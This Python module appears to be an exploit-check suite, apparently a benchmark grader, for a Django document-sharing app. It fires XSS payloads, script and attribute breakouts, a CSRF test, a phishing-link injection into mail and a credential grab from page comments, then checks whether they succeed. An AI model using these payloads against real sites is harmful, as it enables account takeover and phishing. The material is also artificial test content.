"""Scripts of one's own in pages of the site."""

import itertools
import re

from accounts.models import User
from django.core import mail
from hooks.models import Webhook
from visitor import OWN, OWNER, PASSWORD, READER, SCRIPT, Page, document, exploit, give_password, organisation, runs


@exploit("reflected-xss", "documents/views.py", "search")
def search_page(site):
    """A script in the page that says what was not found."""
    found = site.get("documents:search", {"q": "Notes", "format": "html"}).shown
    site.honest("Notes 1 of Alder" in found, "a search finds a title")
    return runs(site.get("documents:search", {"q": SCRIPT, "format": "html"}))


@exploit("reflected-xss", "documents/views.py", "preview")
def preview(site):
    """A script in the preview of a text."""
    shown = site.post("documents:preview", {"body": "**b**"}).shown
    site.honest("<strong>b</strong>" in shown, "Markdown becomes HTML")
    return runs(site.post("documents:preview", {"body": SCRIPT}))


@exploit("unsanitised-rich-text", "core/richtext.py", "render")
def rich_text(site):
    """A script in a comment, for everybody who reads it."""
    args = [document().pk]
    site.post("documents:comment", {"body": "**said**"}, args=args, person=READER)
    site.honest("<strong>said</strong>" in site.get("documents:detail", args=args).shown, "a comment is shown")
    site.post("documents:comment", {"body": SCRIPT}, args=args, person=READER)
    return runs(site.get("documents:detail", args=args))


@exploit("reflected-xss", "documents/templatetags/quire_tags.py", "highlight")
def highlight(site):
    """A script in the title of a document, for everybody who finds it."""
    site.honest(site.upload("a.txt", b"text", title="Plan " + SCRIPT), "a file is taken")
    answer = site.get("documents:index", {"q": "Plan"})
    site.honest("<mark>Plan</mark>" in answer.shown, "the document is found")
    return runs(answer)


@exploit("stored-xss", "documents/templatetags/quire_tags.py", "badge")
def badge(site):
    """A script in one's name, for everybody who sees one's documents."""
    site.honest(site.profile(display_name=SCRIPT), "a name is changed")
    answer = site.get("documents:index", person=READER)
    site.honest("planted()" in answer.shown, "the list names the authors")
    return runs(answer)


@exploit("stored-xss", "documents/views.py", "download")
def download(site):
    """A page of one's own with the site's cookies, by an upload."""
    plain = site.upload("a.txt", b"text")
    site.honest(site.get("documents:download", args=[plain.pk]).shown == "text", "what was uploaded comes back")
    for name in ("page.html", "page.svg", "page.txt"):
        made = site.upload(name, f"<svg xmlns='http://www.w3.org/2000/svg'>{SCRIPT}</svg>".encode())
        if made and (found := runs(site.get("documents:download", args=[made.pk]))):
            return found
    return ""


@exploit("template-xss", "templates/documents/index.html")
def index_page(site):
    """A script in what was looked for."""
    page = site.get("documents:index", {"q": "Notes"}).shown
    site.honest("What we found" in page, "the page says what was looked for")
    return runs(site.get("documents:index", {"q": SCRIPT}))


@exploit("template-xss", "templates/orgs/greeting.html")
def greeting_page(site):
    """A script in the greeting, for all members."""
    site.settings(mail_greeting=SCRIPT)
    answer = site.get("orgs:greeting", person=READER)
    site.honest("<blockquote>" in answer.shown, "the greeting is shown")
    return runs(answer)


@exploit("template-xss", "templates/orgs/contacts.html")
def contacts_page(site):
    """A script out of a text in the script of an attribute."""
    site.honest("Tilda" in site.get("orgs:contacts", {"name": "Tilda"}).shown, "a contact is looked for")
    # The name becomes part of an XPath, too, and has to be one, or there is no page: in a string there a \ is a
    # letter like others, so that its quotes pair in another way than the script's.
    name = "'-\"\\\"-\"-planted()-/*\"-*/name -'"
    return runs(site.get("orgs:contacts", {"name": name}))


@exploit("template-xss", "templates/accounts/person.html")
def person_page(site):
    """A script in what somebody says of herself."""
    site.honest(site.profile(bio=SCRIPT), "a text about oneself is taken")
    answer = site.get("accounts:person", args=[User.objects.get(email=OWNER).pk], person=READER)
    site.honest("planted()" in answer.shown, "it is shown")
    return runs(answer)


@exploit("json-in-script", "templates/core/dashboard.html", "script_data")
def dashboard_page(site):
    """A script in one's name."""
    name = "</script>" + SCRIPT
    site.honest(site.profile(display_name=name), "a name is changed")
    answer = site.get("core:dashboard")
    site.honest("planted()" in answer.shown, "the name is on the page")
    return runs(answer)


@exploit("json-in-script", "templates/core/dashboard.html", "var organisation")
def dashboard_names(site):
    """A script for all members, by a name that ends in a backslash: its string goes on to the next value."""
    site.settings(name="Alder \\", theme=";planted()//")
    answer = site.get("core:dashboard", person=READER)
    site.honest("<h1>Alder \\</h1>" in answer.shown, "the page names the organisation")
    return runs(answer)


@exploit("unsafe-url-attribute", "templates/accounts/person.html")
def website(site):
    """A script behind a link on one's page, for whoever follows it."""
    args = [User.objects.get(email=OWNER).pk]
    site.honest(site.profile(website="https://olga.example/"), "a web site is taken")
    page = site.get("accounts:person", args=args, person=READER).shown
    site.honest("https://olga.example/" in Page(page).links, "it is linked")
    if not site.profile(website="javascript:planted()"):
        # Where the form has refused it, one that is there from an earlier day.
        User.objects.filter(email=OWNER).update(website="javascript:planted()")
    return runs(site.get("accounts:person", args=args, person=READER))


@exploit("missing-csrf-token", "templates/hooks/index.html")
def form_without_token(site):
    """A webhook called in an owner's name, by a page of somebody else that she looks at."""
    site.tokens = True
    hook = Webhook.objects.create(organisation=organisation(OWN), url=site.url, secret="between us")
    site.get("hooks:index")
    site.post("hooks:test", {"csrfmiddlewaretoken": site.clients[OWNER].cookies["csrftoken"].value}, args=[hook.pk])
    site.honest(hook.deliveries.count() == 1, "the site's own form makes a delivery")
    site.post("hooks:test", args=[hook.pk], refusal=403)
    return "called" if hook.deliveries.count() == 2 else ""


@exploit("secret-in-comment", "templates/base.html")
def comment(site):
    """The administration, for whoever reads the source of the first page: a comment says how to log in."""
    give_password(OWNER)
    site.honest(site.login(OWNER, PASSWORD).status_code == 302, "one logs in with the right password")
    for text in Page(site.get("core:home", person=None).shown).comments:
        for address, word in itertools.product(re.findall(r"\S+@\S+", text), text.split()):
            if site.login(address, word).status_code == 302:
                return f"{address} {word}"
    return ""


@exploit("template-autoescape-off", "config/settings/base.py")
def invitation(site):
    """A link of one's own in a mail of the site to anybody."""

    def links(name):
        mail.outbox.clear()
        site.settings(name=name)
        site.post("orgs:invite", {"email": "new@nowhere.example", "role": "reader"})
        site.honest(len(mail.outbox) == 1, "a mail goes out")
        return Page(mail.outbox[0].alternatives[0][0]).links

    site.honest(len(links(OWN)) == 1, "it has the link to the site")
    return next((to for to in links("<a href='https://evil.example/'>Log in</a>") if "evil" in to), "")


@exploit("unquoted-attribute", "templates/accounts/directory.html")
def directory_page(site):
    """A script in an attribute of one's own."""
    answer = site.get("accounts:directory", {"name": "x onfocus=planted() autofocus"})
    site.honest("planted()" in answer.shown, "the page says whom one looked for")
    return runs(answer)


@exploit("unquoted-attribute", "templates/base.html")
def theme(site):
    """A script on every page of the organisation, in an attribute of one's own."""
    site.settings(theme="x onload=planted()")
    return runs(site.get("core:dashboard", person=READER))


@exploit("template-xss", "templates/hooks/deliveries.html")
def deliveries_page(site):
    """A script in what the server of somebody else answers."""
    hook = Webhook.objects.create(organisation=organisation(OWN), url=site.url, secret="between us")
    site.post("hooks:test", args=[hook.pk])
    answer = site.get("hooks:deliveries", args=[hook.pk])
    site.honest(hook.deliveries.count() == 1 and hook.url in answer.shown, "a delivery is shown")
    return runs(answer)
